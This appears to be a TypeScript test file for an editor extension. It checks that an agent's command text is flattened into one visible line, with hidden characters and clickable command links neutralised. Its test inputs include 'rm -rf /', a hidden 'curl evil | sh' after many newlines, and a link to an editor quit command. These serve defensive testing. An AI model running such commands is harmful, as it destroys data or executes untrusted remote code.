import { equal } from 'node:assert/strict';
import { commandLink, notificationText } from '../../../src/base/notificationText';

describe('text of an agent in a notification', () => {
  it('is one line with nothing hidden in it', () => {
    equal(notificationText(' npm test\n  && rm -rf / \u202e\n'), 'npm test ⏎ && rm -rf / ⟨U+202E⟩');
    const wide = `a${' '.repeat(1_000_000)}b`;
    equal(notificationText(wide), wide);
    equal(notificationText(`npm test${'\n'.repeat(100_000)}; curl evil | sh`), 'npm test ⏎ ; curl evil | sh');
  });

  it('makes no link, which VS Code would run', () => {
    const hostile = notificationText('[Free](command:workbench.action.quit) [a](https://example.com)');
    equal(/\[[^\]]*\]\(/.test(hostile), false);
    equal(commandLink('] (x) [', 'parley.x', 'k'), '[］ (x) ［](command:parley.x?%22k%22)');
  });
});
